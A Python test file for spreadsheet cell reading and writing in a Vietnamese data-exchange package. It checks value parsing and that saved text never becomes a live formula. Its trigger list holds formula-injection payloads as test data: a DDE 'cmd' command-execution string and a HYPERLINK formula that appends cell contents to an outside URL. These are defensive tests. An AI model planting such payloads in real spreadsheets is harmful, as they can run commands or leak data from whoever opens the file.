"""The one cell reader's meanings (one table) and the one writer: text is never a formula."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parindex.exchange.cells import (
    CellError,
    append,
    put,
    read_bool,
    read_code,
    read_date,
    read_decimal,
    read_integer,
    read_text,
)
from parindex.exchange.workbooks import Cell, new_workbook, open_workbook, workbook_bytes

ERROR = object()
READERS = {
    "text": read_text,
    "code": read_code,
    "decimal": read_decimal,
    "integer": read_integer,
    "date": read_date,
    "boolean": read_bool,
}

# (cell value, number format, {kind: expected}); ERROR means a CellError.
MEANINGS: list[tuple[Any, str, dict[str, Any]]] = [
    (None, "General", {"text": "", "code": "", "decimal": None, "date": None, "boolean": None}),
    ("   ", "General", {"text": "   ", "decimal": None, "integer": None, "boolean": None}),
    (True, "General", {"text": "có", "boolean": True, "decimal": ERROR, "code": ERROR}),
    (False, "General", {"text": "không", "boolean": False, "date": ERROR}),
    (18550.0, "General", {"text": "18550", "code": "18550", "decimal": Decimal(18550)}),
    (18550, "General", {"integer": 18550, "text": "18550"}),
    (1.5, "General", {"text": "1,5", "code": "1.5", "decimal": Decimal("1.5"), "integer": ERROR}),
    (0.1, "General", {"decimal": Decimal("0.1"), "text": "0,1"}),
    (0.5, "0.00", {"decimal": Decimal("0.50"), "text": "0,5"}),
    (2.1, "General", {"code": "2.1"}),
    (1, "General", {"boolean": True, "integer": 1}),
    (0, "General", {"boolean": False}),
    (7, "General", {"boolean": ERROR}),
    ("0,25", "@", {"decimal": Decimal("0.25"), "text": "0,25"}),
    ("0.25", "@", {"decimal": Decimal("0.25")}),
    ("1.234,5", "@", {"decimal": Decimal("1234.5")}),
    ("1.234", "@", {"integer": 1234}),
    ("-0", "@", {"decimal": Decimal("-0")}),
    ("abc", "@", {"decimal": ERROR, "integer": ERROR, "date": ERROR, "boolean": ERROR}),
    (" son-linh ", "@", {"code": "son-linh", "text": " son-linh "}),
    ("có", "@", {"boolean": True}),
    ("Không", "@", {"boolean": False}),
    ("khong dat", "@", {"boolean": False}),
    ("x", "@", {"boolean": True}),
    ("đúng", "@", {"boolean": True}),
    ("sai", "@", {"boolean": False}),
    ("05/11/2025", "@", {"date": dt.date(2025, 11, 5), "decimal": ERROR}),
    ("5-11-2025", "@", {"date": dt.date(2025, 11, 5)}),
    ("2025-11-05", "@", {"date": dt.date(2025, 11, 5)}),
    ("31/02/2025", "@", {"date": ERROR}),
    (dt.datetime(2025, 1, 20), "DD/MM/YYYY", {"text": "20/01/2025", "date": dt.date(2025, 1, 20)}),
    (dt.datetime(2025, 1, 20, 8, 30), "General", {"text": "20/01/2025 08:30"}),
    (dt.date(2025, 1, 20), "General", {"decimal": ERROR, "boolean": ERROR}),
    (45000, "General", {"date": dt.date(2023, 3, 15)}),  # an Excel serial in a date column
    (12, "General", {"date": ERROR}),
    ("Cafe\u0301", "@", {"text": "Café"}),  # NFC
]


def _cases() -> list[tuple[Any, str, str, Any]]:
    return [
        (value, fmt, kind, expected)
        for value, fmt, table in MEANINGS
        for kind, expected in table.items()
    ]


@pytest.mark.parametrize(("value", "number_format", "kind", "expected"), _cases())
def test_one_meaning_per_kind(value: Any, number_format: str, kind: str, expected: Any) -> None:
    cell = Cell(value, number_format)
    reader = READERS[kind]
    if expected is ERROR:
        with pytest.raises(CellError) as caught:
            reader(cell)
        assert caught.value.message  # a Vietnamese sentence, never empty
    else:
        got = reader(cell)
        assert got == expected
        if isinstance(expected, Decimal):
            assert str(got) == str(expected)  # exact, trailing zeros and sign included


def test_formula_without_result_is_never_blank() -> None:
    cell = Cell(None, "General", formula_without_value=True)
    for reader in READERS.values():
        with pytest.raises(CellError, match="công thức"):
            reader(cell)


TRIGGERS = [
    '=HYPERLINK("http://vi-du.vn/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-1 điểm",
    "@SUM(A1:A3)",
    "=1+1",
    "Có _x000D_ trong chữ",
    "Có _X0041_ hoa",
    "dòng 1\ndòng 2",
]


def _formulas(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))
        ]


def test_text_is_stored_as_text_and_reads_back() -> None:
    wb = new_workbook()
    ws = wb.active
    for row, text in enumerate(TRIGGERS, start=1):
        put(ws, row, 1, text)
    data = workbook_bytes(wb)
    assert _formulas(data) == []
    sheet = open_workbook(data).worksheets[0]
    assert [read_text(sheet.cell(r, 1)) for r in range(1, len(TRIGGERS) + 1)] == TRIGGERS


def test_a_formula_set_any_other_way_is_neutralised_on_save() -> None:
    wb = new_workbook()
    ws = wb.active
    ws["A1"] = "=1+1"  # openpyxl would save this as a live formula
    ws.append(["=cmd|' /C calc'!A0"])
    data = workbook_bytes(wb)
    assert _formulas(data) == []
    sheet = open_workbook(data).worksheets[0]
    assert read_text(sheet.cell(1, 1)) == "=1+1"
    assert read_text(sheet.cell(2, 1)) == "=cmd|' /C calc'!A0"


def test_values_round_trip_through_put() -> None:
    values = [Decimal("0.50"), Decimal("12345678901234567890.25"), dt.date(2025, 1, 31), True]
    wb = new_workbook()
    ws = wb.active
    row = append(ws, values)
    assert row == 1
    assert append(ws, ["=A1"]) == 2
    sheet = open_workbook(workbook_bytes(wb)).worksheets[0]
    assert str(read_decimal(sheet.cell(1, 1))) == "0.50"
    assert str(read_decimal(sheet.cell(1, 2))) == "12345678901234567890.25"
    assert read_date(sheet.cell(1, 3)) == dt.date(2025, 1, 31)
    assert read_bool(sheet.cell(1, 4)) is True
    assert read_text(sheet.cell(2, 1)) == "=A1"


_TEXT = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\r"),
    min_size=1,
    max_size=60,
).filter(lambda t: t.strip() != "")


@settings(max_examples=60, deadline=None)
@given(st.lists(_TEXT, min_size=1, max_size=5))
def test_any_text_round_trips(texts: list[str]) -> None:
    """Whatever a person types (control characters aside, which no .xlsx may hold) comes back
    exactly, and never as a formula."""
    wb = new_workbook()
    ws = wb.active
    for row, text in enumerate(texts, start=1):
        put(ws, row, 1, text)
    data = workbook_bytes(wb)
    assert _formulas(data) == []
    sheet = open_workbook(data).worksheets[0]
    control = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
    for row, text in enumerate(texts, start=1):
        assert (sheet.cell(row, 1).value or "") == control.sub("", text)
